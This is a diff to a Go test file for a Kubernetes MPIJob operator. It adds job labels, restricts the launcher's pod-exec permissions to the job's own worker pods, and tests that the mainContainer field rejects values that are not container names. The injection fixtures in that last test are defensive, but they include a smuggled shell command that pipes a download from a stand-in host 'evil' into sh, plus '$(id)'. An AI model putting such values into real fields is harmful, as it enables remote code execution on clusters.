@@ -9,6 +9,7 @@ import (
 	rbacv1 "k8s.io/api/rbac/v1"
 	"k8s.io/apimachinery/pkg/api/resource"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/types"
 	"k8s.io/utils/ptr"
 
 	trainingv1 "github.com/kfup/kfup/components/training/api/v1"
@@ -222,7 +223,7 @@ func TestConfigMap(t *testing.T) {
 			}
 			want := &corev1.ConfigMap{
 				TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ConfigMap"},
-				ObjectMeta: metav1.ObjectMeta{Name: "pi-config", Namespace: "ns", Labels: map[string]string{"app": "pi"},
+				ObjectMeta: metav1.ObjectMeta{Name: "pi-config", Namespace: "ns", Labels: map[string]string{"training.kubeflow.org/operator-name": "mpijob-controller", "training.kubeflow.org/job-name": "pi", "app": "pi"},
 					OwnerReferences: []metav1.OwnerReference{owner}},
 				Data: map[string]string{"hostfile": tc.hostfile, "workers_hostfile": tc.workers, "kubexec.sh": tc.kubexec, "discover_hosts.sh": tc.discoverSh},
 			}
@@ -280,7 +281,7 @@ func TestDeliveryOptions(t *testing.T) {
 }
 
 func TestRBAC(t *testing.T) {
-	meta := metav1.ObjectMeta{Name: "pi-launcher", Namespace: "ns", Labels: map[string]string{"app": "pi"}, OwnerReferences: []metav1.OwnerReference{owner}}
+	meta := metav1.ObjectMeta{Name: "pi-launcher", Namespace: "ns", Labels: map[string]string{"training.kubeflow.org/operator-name": "mpijob-controller", "training.kubeflow.org/job-name": "pi", "app": "pi"}, OwnerReferences: []metav1.OwnerReference{owner}}
 	readPods := rbacv1.PolicyRule{Verbs: []string{"get", "list", "watch"}, APIGroups: []string{""}, Resources: []string{"pods"}}
 	binding := func(sa string) *rbacv1.RoleBinding {
 		return &rbacv1.RoleBinding{
@@ -290,20 +291,41 @@ func TestRBAC(t *testing.T) {
 			RoleRef:    rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "Role", Name: "pi-launcher"},
 		}
 	}
+	workerPod := func(name string, controller types.UID) *corev1.Pod {
+		return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{
+			"training.kubeflow.org/operator-name": "mpijob-controller", "training.kubeflow.org/job-name": "pi", "training.kubeflow.org/replica-type": "worker",
+		}, OwnerReferences: []metav1.OwnerReference{{APIVersion: "kubeflow.org/v1", Kind: "MPIJob", Name: "pi", UID: controller, Controller: ptr.To(true)}}}}
+	}
 	cases := []struct {
 		name     string
 		launcher string
 		worker   string
+		pods     []*corev1.Pod
 		want     []engine.Object
 	}{
-		{"own service account, exec into the workers", cpuLauncher, plainWorker, []engine.Object{
+		{"own service account, exec into the workers", cpuLauncher, plainWorker, []*corev1.Pod{workerPod("pi-worker-1", "u-1"), workerPod("pi-worker-0", "u-1")}, []engine.Object{
 			&corev1.ServiceAccount{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ServiceAccount"}, ObjectMeta: meta},
 			&rbacv1.Role{TypeMeta: metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role"}, ObjectMeta: meta,
 				Rules: []rbacv1.PolicyRule{readPods, {Verbs: []string{"create"}, APIGroups: []string{""}, Resources: []string{"pods/exec"},
 					ResourceNames: []string{"pi-worker-0", "pi-worker-1"}}}},
 			binding("pi-launcher"),
 		}},
-		{"user's service account, no workers: no exec at all", `spec: {serviceAccountName: trainer, containers: [{name: mpi, image: i}]}`, "", []engine.Object{
+		// a pod of a worker's name that is not the job's (someone else's, here of another
+		// job of the name) is not exec'd into; nor are workers not created yet
+		{"exec only into the job's own workers", cpuLauncher, plainWorker, []*corev1.Pod{workerPod("pi-worker-1", "u-1"), workerPod("pi-worker-0", "u-other")}, []engine.Object{
+			&corev1.ServiceAccount{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ServiceAccount"}, ObjectMeta: meta},
+			&rbacv1.Role{TypeMeta: metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role"}, ObjectMeta: meta,
+				Rules: []rbacv1.PolicyRule{readPods, {Verbs: []string{"create"}, APIGroups: []string{""}, Resources: []string{"pods/exec"},
+					ResourceNames: []string{"pi-worker-1"}}}},
+			binding("pi-launcher"),
+		}},
+		{"no worker pod yet: no exec at all", cpuLauncher, plainWorker, nil, []engine.Object{
+			&corev1.ServiceAccount{TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "ServiceAccount"}, ObjectMeta: meta},
+			&rbacv1.Role{TypeMeta: metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role"}, ObjectMeta: meta,
+				Rules: []rbacv1.PolicyRule{readPods}},
+			binding("pi-launcher"),
+		}},
+		{"user's service account, no workers: no exec at all", `spec: {serviceAccountName: trainer, containers: [{name: mpi, image: i}]}`, "", nil, []engine.Object{
 			&rbacv1.Role{TypeMeta: metav1.TypeMeta{APIVersion: "rbac.authorization.k8s.io/v1", Kind: "Role"}, ObjectMeta: meta,
 				Rules: []rbacv1.PolicyRule{readPods}},
 			binding("trainer"),
@@ -311,7 +333,7 @@ func TestRBAC(t *testing.T) {
 	}
 	for _, tc := range cases {
 		t.Run(tc.name, func(t *testing.T) {
-			extras, err := engine.DesiredExtras(mpi.New(), job(t, "", tc.launcher, tc.worker), nil)
+			extras, err := engine.DesiredExtras(mpi.New(), job(t, "", tc.launcher, tc.worker), tc.pods)
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -360,6 +382,32 @@ spec:
 		got := d.(*trainingv1.MPIJob).Spec
 		if *got.CleanPodPolicy != tc.want || *got.RunPolicy.CleanPodPolicy != tc.want {
 			t.Errorf("%s: cleanPodPolicy %s / runPolicy %s, want %s", tc.name, *got.CleanPodPolicy, *got.RunPolicy.CleanPodPolicy, tc.want)
+		}
+	}
+}
+
+// mainContainer reaches kubexec.sh, a shell script: a value that is not a container name
+// (a DNS-1123 label) is refused instead of being run by the launcher's shell.
+func TestMainContainerMustBeAContainerName(t *testing.T) {
+	cases := []struct {
+		main    string
+		wantErr string
+	}{
+		{main: ""},
+		{main: "trainer"},
+		{main: `x"; curl evil | sh; "`, wantErr: `spec.mainContainer "x\"; curl evil | sh; \"" is not a container name`},
+		{main: "$(id)", wantErr: "is not a container name"},
+		{main: strings.Repeat("a", 64), wantErr: "must be no more than 63 characters"},
+	}
+	for _, tc := range cases {
+		j := job(t, "", cpuLauncher, plainWorker)
+		j.Spec.MainContainer = tc.main
+		_, err := engine.DesiredExtras(mpi.New(), j, nil)
+		switch {
+		case tc.wantErr == "" && err != nil:
+			t.Errorf("mainContainer %q: %v", tc.main, err)
+		case tc.wantErr != "" && (err == nil || !strings.Contains(err.Error(), tc.wantErr)):
+			t.Errorf("mainContainer %q: error %v, want one containing %q", tc.main, err, tc.wantErr)
 		}
 	}
 }
